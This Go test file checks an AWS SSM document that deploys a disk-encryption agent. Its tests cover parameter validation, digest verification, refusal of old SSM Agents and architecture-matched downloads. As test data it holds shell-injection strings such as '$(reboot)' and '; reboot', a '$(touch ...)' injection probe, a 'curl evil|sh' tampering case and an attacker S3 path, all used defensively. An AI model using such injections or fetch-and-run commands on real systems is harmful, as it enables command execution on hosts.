package document

import (
	"bytes"
	"compress/gzip"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"flag"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/storecrypt/storecrypt/internal/contract"
	"github.com/storecrypt/storecrypt/internal/fakeaws"
	"github.com/storecrypt/storecrypt/internal/golden"
)

var agents = Agents{URLPrefix: "https://bucket.s3.us-east-1.amazonaws.com/storecrypt-agent-0123-", Each: []Agent{
	{Arch: "arm64", SHA256: strings.Repeat("b", 64), GzSHA256: strings.Repeat("d", 64)},
	{Arch: "amd64", SHA256: strings.Repeat("a", 64), GzSHA256: strings.Repeat("c", 64)},
}}

func defaults() contract.AgentOptions {
	o := contract.DefaultAgentOptions()
	o.KMSKeyID = "arn:aws:kms:us-east-1:111122223333:key/11111111-2222-4333-8444-555555555555"
	return o
}

// TestParametersAreAgentFlags: every parameter is an agent flag, and every agent flag is
// a parameter but --wait, which only a person at a terminal needs, and --model: on EC2
// the instance-store model is fixed, and a parameter could only point the agent at other
// disks.
func TestParametersAreAgentFlags(t *testing.T) {
	o := contract.DefaultAgentOptions()
	fs := flag.NewFlagSet("agent", flag.ContinueOnError)
	fs.SetOutput(io.Discard)
	o.RegisterFlags(fs)
	params := map[string]bool{}
	for _, p := range contract.DocumentParameters {
		if fs.Lookup(p.Flag) == nil {
			t.Errorf("parameter %s maps to --%s, which the agent does not have", p.Name, p.Flag)
		}
		params[p.Flag] = true
	}
	fs.VisitAll(func(f *flag.Flag) {
		if !params[f.Name] && f.Name != contract.FlagWait && f.Name != contract.FlagModel {
			t.Errorf("agent flag --%s has no document parameter", f.Name)
		}
	})
}

// TestPatternsAgreeWithTheAgent: for each parameter, a value the allowedPattern accepts
// is one the agent accepts, and hostile values fail both.
func TestPatternsAgreeWithTheAgent(t *testing.T) {
	hostile := []string{"x; reboot", "$(reboot)", "`reboot`", "a\nb", "../../etc", "/mnt/../etc", "'", `"`, "a|b", "a&b", "${IFS}"}
	good := map[string][]string{
		"KeySource":  contract.KeySources,
		"KmsKeyId":   {"", "alias/storecrypt", "arn:aws:kms:eu-west-1:111122223333:key/11111111-2222-4333-8444-555555555555"},
		"Secret":     {"", "s3://my-bucket/seed/passphrase"},
		"MountPoint": {"/mnt/instance-store", "/data/scratch"},
		"Filesystem": contract.Filesystems,
		"Devices":    {"", "/dev/nvme1n1", "/dev/nvme1n1,/dev/nvme2n1"},
		"Discard":    {"true", "false"},
		"Wipe":       {"true", "false"},
	}
	for _, p := range contract.DocumentParameters {
		re := regexp.MustCompile(p.Pattern)
		for _, v := range good[p.Name] {
			if !re.MatchString(v) {
				t.Errorf("%s: pattern rejects the good value %q", p.Name, v)
			}
			if err := agentAccepts(p.Flag, v); err != nil {
				t.Errorf("%s=%q: the pattern accepts it but the agent says %v", p.Name, v, err)
			}
		}
		for _, v := range hostile {
			if re.MatchString(v) {
				t.Errorf("%s: pattern accepts the hostile value %q", p.Name, v)
			}
		}
	}
}

// agentAccepts sets one flag as the document would and runs the agent's validation.
func agentAccepts(name, value string) error {
	o := contract.DefaultAgentOptions()
	o.KMSKeyID, o.Secret = "alias/storecrypt", "s3://bucket/seed"
	fs := flag.NewFlagSet("agent", flag.ContinueOnError)
	fs.SetOutput(io.Discard)
	o.RegisterFlags(fs)
	if err := fs.Parse([]string{"--" + name + "=" + value}); err != nil {
		return err
	}
	if o.KMSKeyID == "" || o.Secret == "" {
		// An empty key or secret is valid for the key sources that do not use it.
		o.KeySource = contract.KeySourceEphemeral
	}
	return o.Validate()
}

func TestDefaultsAreValid(t *testing.T) {
	content := Content(defaults(), agents)
	params := content["parameters"].(map[string]any)
	if len(params) != len(contract.DocumentParameters)+1 {
		t.Errorf("%d parameters, want the agent's %d and %s", len(params), len(contract.DocumentParameters), ArchitectureParameter)
	}
	for _, p := range contract.DocumentParameters {
		spec := params[p.Name].(map[string]any)
		if spec["interpolationType"] != "ENV_VAR" || spec["description"] == "" {
			t.Errorf("%s: %v", p.Name, spec)
		}
		if !regexp.MustCompile(p.Pattern).MatchString(spec["default"].(string)) {
			t.Errorf("%s: default %q fails its own allowedPattern", p.Name, spec["default"])
		}
	}
}

// TestDropDowns: every parameter whose pattern is a closed list of words is a drop-down
// in the console (allowedValues, the same words), its description naming the stack's
// default; a parameter whose pattern is open is a text box.
func TestDropDowns(t *testing.T) {
	closed := regexp.MustCompile(`^\^\(([a-z0-9|-]+)\)\$$`)
	params := Content(defaults(), agents)["parameters"].(map[string]any)
	for _, p := range contract.DocumentParameters {
		spec := params[p.Name].(map[string]any)
		got, _ := spec["allowedValues"].([]string)
		m := closed.FindStringSubmatch(p.Pattern)
		if m == nil {
			if got != nil {
				t.Errorf("%s: allowedValues %v for an open pattern", p.Name, got)
			}
			continue
		}
		if want := strings.Split(m[1], "|"); !slices.Equal(got, want) {
			t.Errorf("%s: allowedValues %v, want the pattern's %v", p.Name, got, want)
		}
		def := spec["default"].(string)
		if !slices.Contains(got, def) || !strings.HasSuffix(spec["description"].(string), " Default: "+def+".") {
			t.Errorf("%s: default %q, description %q", p.Name, def, spec["description"])
		}
	}
}

// TestScriptReadsOnlyEnvironment: parameters reach the agent only as SSM_<name>
// variables; no step names an agent parameter in its text, so no value is ever text
// whatever the SSM Agent does with interpolationType; the only {{ }} left is the
// architecture's, in the download's path and the run step's check.
func TestScriptReadsOnlyEnvironment(t *testing.T) {
	script := strings.Join(Script(agents.Each), "\n")
	content, err := json.Marshal(Content(defaults(), agents)["mainSteps"])
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range contract.DocumentParameters {
		if !strings.Contains(script, `--`+p.Flag+`="$SSM_`+p.Name+`"`) {
			t.Errorf("the script does not pass $SSM_%s quoted to --%s", p.Name, p.Flag)
		}
		if ref := regexp.MustCompile(`\{\{\s*` + p.Name + `\s*\}\}`); ref.Match(content) {
			t.Errorf("%s: a step names it as {{ %s }}, which an SSM Agent before %s substitutes as text", p.Name, p.Name, envVarAgent)
		}
	}
	if n, arch := strings.Count(string(content), "{{"), strings.Count(string(content), "{{ "+ArchitectureParameter+" }}"); n != arch || arch != 3 {
		t.Errorf("got %d {{ in the steps, %d of them the architecture's, want only the architecture's 3", n, arch)
	}
	for _, a := range agents.Each {
		if !strings.Contains(script, a.SHA256) || !strings.Contains(script, a.GzSHA256) {
			t.Errorf("the script does not check the %s digests", a.Arch)
		}
	}
	// SSM sets SSM_<name> only for a parameter it interpolates as ENV_VAR.
	params := Content(defaults(), agents)["parameters"].(map[string]any)
	for _, p := range contract.DocumentParameters {
		if got := params[p.Name].(map[string]any)["interpolationType"]; got != "ENV_VAR" {
			t.Errorf("%s: interpolationType %v, want ENV_VAR", p.Name, got)
		}
	}
}

// TestOldAgentRefused runs the run step as an SSM Agent before 3.3.2746.0 renders it
// (fakeaws.SSMAgent from the agent's source): it sets no SSM_<name>, and a value given as
// an {{ssm:name}} reference is checked against allowedPattern as one Parameter Store read
// and put into any text that names the parameter as a second read. Between the two the
// parameter turns into shell. The step must stop before the tools or the agent run, with
// nothing of the value executed.
func TestOldAgentRefused(t *testing.T) {
	dir := t.TempDir()
	pwned := filepath.Join(dir, "pwned")
	n := 0
	store := func(name string) (fakeaws.StoreParameter, bool) {
		n++
		if n == 1 {
			return fakeaws.StoreParameter{Type: "String", Value: "xfs"}, true
		}
		return fakeaws.StoreParameter{Type: "String", Value: "$(touch " + pwned + ")"}, true
	}
	content, err := json.Marshal(Content(defaults(), agents))
	if err != nil {
		t.Fatal(err)
	}
	old := fakeaws.SSMAgent{Platform: "Linux", Version: "3.3.1142.0", Store: store}
	plan, err := old.Plan(string(content), map[string][]string{ArchitectureParameter: {hostArch(t)}, "Filesystem": {"{{ssm:/storecrypt/fs}}"}})
	if err != nil {
		t.Fatal(err)
	}
	var script strings.Builder
	for _, line := range plan.Steps[len(plan.Steps)-1].Inputs["runCommand"].([]any) {
		script.WriteString(line.(string) + "\n")
	}
	cmd := exec.Command("sh", "-c", script.String())
	cmd.Env = append(os.Environ(), plan.Env...)
	var stderr strings.Builder
	cmd.Stderr = &stderr
	err = cmd.Run()
	var exit *exec.ExitError
	if !errors.As(err, &exit) || exit.ExitCode() != 2 || !strings.Contains(stderr.String(), "SSM Agent "+envVarAgent) {
		t.Errorf("got %v, stderr %q, want exit 2 asking for SSM Agent %s", err, stderr.String(), envVarAgent)
	}
	if _, err := os.Stat(pwned); err == nil {
		t.Errorf("the Parameter Store value ran as shell under an old SSM Agent")
	}
}

func TestDigest(t *testing.T) {
	content := Content(defaults(), agents)
	want, err := Digest(content)
	if err != nil {
		t.Fatal(err)
	}
	deployed, err := json.Marshal(content) // as SSM returns it
	if err != nil {
		t.Fatal(err)
	}
	if err := Verify(string(deployed), want, defaults().KMSKeyID, ""); err != nil {
		t.Fatalf("the deployed content: %v", err)
	}
	// The values CloudFormation fills in at deploy time do not change the digest.
	other := Agents{URLPrefix: "https://other/agent-", Each: agents.Each}
	if got, _ := Digest(Content(defaults(), other)); got != want {
		t.Errorf("the asset URLs changed the digest")
	}
	for _, tc := range []struct {
		name   string
		edit   func(c string) string
		keyID  string
		secret string
	}{
		{"another script", func(c string) string { return strings.Replace(c, "set -eu", "set -eu; curl evil|sh", 1) }, defaults().KMSKeyID, ""},
		{"another agent digest", func(c string) string { return strings.ReplaceAll(c, agents.Each[1].SHA256, strings.Repeat("e", 64)) }, defaults().KMSKeyID, ""},
		{"another download digest", func(c string) string { return strings.ReplaceAll(c, agents.Each[1].GzSHA256, strings.Repeat("e", 64)) }, defaults().KMSKeyID, ""},
		{"another architecture", func(c string) string { return strings.Replace(c, `"arm64"]`, `"arm64","s390x"]`, 1) }, defaults().KMSKeyID, ""},
		{"a looser pattern", func(c string) string { return strings.Replace(c, `^(true|false)$`, `.*`, 1) }, defaults().KMSKeyID, ""},
		{"another default key", func(c string) string { return c }, "arn:aws:kms:us-east-1:444455556666:key/x", ""},
		{"a default secret", func(c string) string { return c }, defaults().KMSKeyID, "s3://attacker/seed"},
		{"not JSON", func(string) string { return "{" }, defaults().KMSKeyID, ""},
	} {
		t.Run(tc.name, func(t *testing.T) {
			if err := Verify(tc.edit(string(deployed)), want, tc.keyID, tc.secret); !errors.Is(err, ErrUntrusted) {
				t.Errorf("got %v, want ErrUntrusted", err)
			}
		})
	}
}

func TestGolden(t *testing.T) {
	got, err := json.MarshalIndent(Content(defaults(), agents), "", "  ")
	if err != nil {
		t.Fatal(err)
	}
	golden.Check(t, "document.json", append(got, '\n'))
}

// hostArch is this machine's GOARCH, as the script's uname -m case maps it.
func hostArch(t *testing.T) string {
	t.Helper()
	m := strings.TrimSpace(run(t, "uname", "-m"))
	for arch, name := range machine {
		if name == m {
			return arch
		}
	}
	t.Fatalf("no agent for this machine's architecture, %s", m)
	return ""
}

func gzipped(t *testing.T, data string) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := gzip.NewWriter(&b)
	if _, err := zw.Write([]byte(data)); err != nil {
		t.Fatal(err)
	}
	if err := zw.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func hexSum(data []byte) string {
	sum := sha256.Sum256(data)
	return hex.EncodeToString(sum[:])
}

// TestScriptRunsTheMatchingAgent runs the run step, as the SSM Agent model renders it for
// this machine (fakeaws.PlanCommand), with sh over the download where the model puts it
// (Step.DownloadedTo): on a fresh instance the file Dir, and where Dir is a directory
// holding older agents, the current one beside them. The one whose digests the document
// names runs, decompressed into a private copy that is gone afterwards; the stale ones
// are removed; the agent's exit code is the step's. A command for the other architecture,
// or a download that decompresses to another binary, stops before the agent runs.
func TestScriptRunsTheMatchingAgent(t *testing.T) {
	const current = "#!/bin/sh\necho \"ran $0 $1\"\nexit 3\n"
	arch := hostArch(t)
	other := map[string]string{"amd64": "arm64", "arm64": "amd64"}[arch]
	for _, tc := range []struct {
		name     string
		arch     string // the command's Architecture
		binary   string // what the current download decompresses to
		code     int
		stdout   string // a pattern
		stderr   string
		leftOver []string // the download directory's files; the file Dir itself is "agent"
		cp       string   // a stub for cp, "" for the system's
		fresh    bool     // no directory at Dir before the download
		reverse  bool     // find lists in reverse name order
	}{
		{"the current agent", arch, current, 3, `^ran \S+/storecrypt-agent\.[^/]+/storecrypt-agent apply\n$`, "removing the stale download", []string{"agent-" + arch + ".gz"}, "", false, false},
		{"the current agent, listed in reverse order", arch, current, 3, `^ran \S+/storecrypt-agent\.[^/]+/storecrypt-agent apply\n$`, "removing the stale download", []string{"agent-" + arch + ".gz"}, "", false, true},
		{"the current agent on a fresh instance", arch, current, 3, `^ran \S+/storecrypt-agent\.[^/]+/storecrypt-agent apply\n$`, "", []string{"agent"}, "", true, false},
		{"the other architecture", other, current, 2, `^$`, "run it again with Architecture=" + arch, []string{"a-old.gz", "agent-" + other + ".gz", "z-old.gz"}, "", false, false},
		{"a download of another binary", arch, "#!/bin/sh\necho evil\n", 1, `^$`, "decompresses to a binary whose SHA-256 is not", []string{"agent-" + arch + ".gz"}, "", false, false},
		// The checked download replaced between its check and its copy.
		{"a download swapped while it is copied", arch, current, 1, `^$`, "changed while it was copied", []string{"agent-" + arch + ".gz"}, "#!/bin/sh\necho swapped >\"$2\"\n", false, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			downloads, private, stubs := filepath.Join(dir, "agent"), filepath.Join(dir, "run"), filepath.Join(dir, "bin")
			gz := gzipped(t, tc.binary)
			each := []Agent{{Arch: "amd64", SHA256: hexSum([]byte(current)), GzSHA256: hexSum(gz)}, {Arch: "arm64", SHA256: hexSum([]byte(current)), GzSHA256: hexSum(gz)}}
			// find lists in directory order, which is the file system's: a stub lists in
			// name order, or its reverse, so that a stale download comes before the
			// current one whatever the file system.
			realFind, err := exec.LookPath("find")
			if err != nil {
				t.Fatal(err)
			}
			order := map[bool]string{false: "sort", true: "sort -r"}[tc.reverse]
			writeFile(t, filepath.Join(stubs, "find"), "#!/bin/sh\n"+realFind+` "$@" | `+order+"\n")
			if !tc.fresh {
				writeFile(t, filepath.Join(downloads, "a-old.gz"), string(gzipped(t, "#!/bin/sh\necho ran the old agent\n")))
			}
			for _, tool := range []string{"cryptsetup", "mdadm", "blkid", "mkfs.ext4", "mkfs.xfs"} {
				writeFile(t, filepath.Join(stubs, tool), "#!/bin/sh\n")
			}
			if tc.cp != "" {
				writeFile(t, filepath.Join(stubs, "cp"), tc.cp)
			}
			if err := os.MkdirAll(private, 0o755); err != nil {
				t.Fatal(err)
			}
			content, err := json.Marshal(Content(defaults(), Agents{URLPrefix: "https://b/agent-", Each: each}))
			if err != nil {
				t.Fatal(err)
			}
			plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {tc.arch}}, "Linux")
			if err != nil {
				t.Fatal(err)
			}
			onHost := func(p string) string { return strings.Replace(p, Dir, downloads, 1) }
			target, err := plan.Steps[0].DownloadedTo(func(p string) bool {
				info, err := os.Stat(onHost(p))
				return err == nil && info.IsDir()
			})
			if err != nil {
				t.Fatal(err)
			}
			writeFile(t, onHost(target), string(gz))
			if !tc.fresh {
				writeFile(t, filepath.Join(downloads, "z-old.gz"), string(gzipped(t, "#!/bin/sh\necho ran another old agent\n")))
			}
			step := plan.Steps[len(plan.Steps)-1]
			var script strings.Builder
			for _, line := range step.Inputs["runCommand"].([]any) {
				script.WriteString(line.(string) + "\n")
			}
			text := strings.ReplaceAll(script.String(), Dir, downloads)
			text = strings.ReplaceAll(text, "/run/storecrypt-agent.", private+"/storecrypt-agent.")
			cmd := exec.Command("sh", "-c", text)
			cmd.Env = append(append(os.Environ(), plan.Env...), "PATH="+stubs+":"+os.Getenv("PATH"))
			var stdout, stderr strings.Builder
			cmd.Stdout, cmd.Stderr = &stdout, &stderr
			err = cmd.Run()
			var exit *exec.ExitError
			if !errors.As(err, &exit) || exit.ExitCode() != tc.code {
				t.Fatalf("the step ended with %v, want exit %d\n%s", err, tc.code, stderr.String())
			}
			if !regexp.MustCompile(tc.stdout).MatchString(stdout.String()) {
				t.Errorf("stdout %q, want %s", stdout.String(), tc.stdout)
			}
			if tc.code == 3 && !strings.Contains(stdout.String(), private+"/") {
				t.Errorf("stdout %q: the agent did not run from a private copy", stdout.String())
			}
			if left, _ := filepath.Glob(filepath.Join(private, "*")); len(left) != 0 {
				t.Errorf("the private copy is left behind: %v", left)
			}
			var left []string
			if info, err := os.Stat(downloads); err == nil && !info.IsDir() {
				left = []string{filepath.Base(downloads)}
			}
			entries, _ := os.ReadDir(downloads)
			for _, e := range entries {
				left = append(left, e.Name())
			}
			if !slices.Equal(left, tc.leftOver) {
				t.Errorf("downloads left: %v, want %v", left, tc.leftOver)
			}
			if !strings.Contains(stderr.String(), tc.stderr) {
				t.Errorf("stderr does not say %q:\n%s", tc.stderr, stderr.String())
			}
		})
	}
}

// TestOneDownloadForTheInstance runs the document through the SSM Agent model: on Linux,
// one download step fetches only the object of the command's Architecture; on Windows
// (a console rerun by tag can reach one) every step is skipped; SendCommand refuses an
// architecture storecrypt has no agent for, and a command that names none.
func TestOneDownloadForTheInstance(t *testing.T) {
	content, err := json.Marshal(Content(defaults(), agents))
	if err != nil {
		t.Fatal(err)
	}
	for _, arch := range Architectures {
		plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {arch}}, "Linux")
		if err != nil {
			t.Fatal(err)
		}
		for _, s := range plan.Steps {
			if s.Skipped != "" {
				t.Errorf("%s: step %s skipped on Linux: %s", arch, s.Name, s.Skipped)
			}
		}
		downloads, err := plan.Downloads()
		if err != nil {
			t.Fatal(err)
		}
		if want := []string{agents.URL(arch)}; !slices.Equal(downloads, want) {
			t.Errorf("%s: downloads %v, want %v", arch, downloads, want)
		}
	}
	plan, err := fakeaws.PlanCommand(string(content), map[string][]string{ArchitectureParameter: {"amd64"}}, "Windows")
	if err != nil {
		t.Fatal(err)
	}
	for _, s := range plan.Steps {
		if s.Skipped == "" {
			t.Errorf("step %s runs on Windows", s.Name)
		}
	}
	// The SSM Agent checks allowedPattern alone: a value that reached the instance outside
	// allowedValues is refused there only by the pattern.
	for _, given := range []map[string][]string{{ArchitectureParameter: {"x86_64"}}, {ArchitectureParameter: {"$(reboot)"}}, {ArchitectureParameter: {"amd64\nreboot"}}, {}} {
		var refused *fakeaws.ParameterError
		if _, err := fakeaws.PlanCommand(string(content), given, "Linux"); !errors.As(err, &refused) {
			t.Errorf("%v: got %v, want the SSM Agent's refusal", given, err)
		}
	}
}

func writeFile(t *testing.T, path, content string) {
	t.Helper()
	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(path, []byte(content), 0o755); err != nil {
		t.Fatal(err)
	}
}

func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).Output()
	if err != nil {
		t.Fatal(err)
	}
	return string(out)
}
